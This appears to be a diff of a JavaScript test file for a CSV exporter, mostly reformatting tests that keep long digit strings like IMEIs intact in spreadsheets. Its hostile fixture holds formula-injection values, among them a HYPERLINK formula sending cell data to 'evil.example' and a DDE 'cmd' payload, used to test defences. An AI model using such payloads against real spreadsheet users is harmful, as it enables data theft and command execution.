@@ -15,7 +15,7 @@ const HOSTILE = {
   id: 7,
   issuedTo: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
   issuedToPhone: '+254700000001',
-  notes: '-2+3+cmd|\' /C calc\'!A0',
+  notes: "-2+3+cmd|' /C calc'!A0",
   refNo: '@SUM(1+1)*cmd',
   receiptNo: '\t=1+1',
   paymentMethod: '\r=1+1',
@@ -78,7 +78,14 @@ describe('CSV digits a spreadsheet would alter', () => {
   it('writes 12 or more digits, or digits with a leading zero, as ="…" so Excel, LibreOffice and Sheets keep the text', async () => {
     const { text, row } = await unitCsv(false);
     expect(text.split('\r\n')[1]).toBe('1,"=""356805120010535""","=""86012342509234212""","=""0001234""",12345678901,2024');
-    expect(row).toEqual({ id: '1', imei1: '="356805120010535"', imei2: '="86012342509234212"', serialNo: '="0001234"', itemCode: '12345678901', color: '2024' });
+    expect(row).toEqual({
+      id: '1',
+      imei1: '="356805120010535"',
+      imei2: '="86012342509234212"',
+      serialNo: '="0001234"',
+      itemCode: '12345678901',
+      color: '2024',
+    });
   });
 
   it('--raw writes the plain digits, for programs', async () => {
@@ -87,6 +94,8 @@ describe('CSV digits a spreadsheet would alter', () => {
   });
 
   it('leaves text that only starts with digits, and phone numbers with +, to the other rules', () => {
-    expect(csvOfObjects([{ a: '356805120010535 (box)', b: '+254712345678', c: '0', d: '0712345678' }])).toBe('a,b,c,d\r\n356805120010535 (box),\'+254712345678,0,"=""0712345678"""\r\n');
+    expect(csvOfObjects([{ a: '356805120010535 (box)', b: '+254712345678', c: '0', d: '0712345678' }])).toBe(
+      'a,b,c,d\r\n356805120010535 (box),\'+254712345678,0,"=""0712345678"""\r\n',
+    );
   });
 });
